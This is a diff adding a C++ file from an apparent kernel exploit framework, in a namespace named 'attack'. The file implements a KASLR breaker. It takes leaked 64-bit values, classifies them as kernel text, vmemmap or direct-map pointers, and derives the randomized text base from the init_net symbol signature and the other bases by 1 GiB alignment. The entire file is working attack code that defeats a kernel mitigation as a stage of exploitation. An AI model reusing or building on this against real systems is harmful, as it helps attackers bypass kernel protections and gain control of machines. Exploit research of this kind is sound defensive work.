@@ -1,0 +1,69 @@
+#include "attack/kaslr_break.h"
+
+#include <sstream>
+
+#include "base/align.h"
+
+namespace spv::attack {
+
+namespace {
+constexpr uint64_t kLow21 = (1ull << 21) - 1;
+constexpr uint64_t kGiB = 1ull << 30;
+}  // namespace
+
+std::string KaslrKnowledge::ToString() const {
+  std::ostringstream out;
+  auto fmt = [&](const char* name, const std::optional<uint64_t>& value) {
+    out << name << "=";
+    if (value.has_value()) {
+      out << std::hex << "0x" << *value << std::dec;
+    } else {
+      out << "?";
+    }
+    out << " ";
+  };
+  fmt("text_base", text_base);
+  fmt("vmemmap_base", vmemmap_base);
+  fmt("page_offset_base", page_offset_base);
+  return out.str();
+}
+
+void KaslrBreaker::Consume(std::span<const uint64_t> qwords) {
+  for (uint64_t value : qwords) {
+    ConsumeOne(value);
+  }
+}
+
+void KaslrBreaker::ConsumeOne(uint64_t value) {
+  ++stats_.qwords_seen;
+  switch (mem::KernelLayout::ClassifyByRange(Kva{value})) {
+    case mem::Region::kKernelText: {
+      ++stats_.text_pointers;
+      // init_net signature: low 21 bits survive the 2 MiB-aligned slide.
+      if ((value & kLow21) == (mem::kSymInitNet & kLow21)) {
+        const uint64_t candidate = value - mem::kSymInitNet;
+        if (IsAligned(candidate - mem::LayoutRanges::kTextStart, mem::kTextAlign) &&
+            candidate >= mem::LayoutRanges::kTextStart &&
+            candidate < mem::LayoutRanges::kTextEnd) {
+          ++stats_.init_net_hits;
+          knowledge_.text_base = candidate;
+        }
+      }
+      break;
+    }
+    case mem::Region::kVmemmap:
+      ++stats_.vmemmap_pointers;
+      // 1 GiB-aligned base; the struct-page array fits under 1 GiB.
+      knowledge_.vmemmap_base = AlignDown(value, kGiB);
+      break;
+    case mem::Region::kDirectMap:
+      ++stats_.direct_map_pointers;
+      // 1 GiB-aligned base; physical memory fits under 1 GiB on our machines.
+      knowledge_.page_offset_base = AlignDown(value, kGiB);
+      break;
+    default:
+      break;
+  }
+}
+
+}  // namespace spv::attack
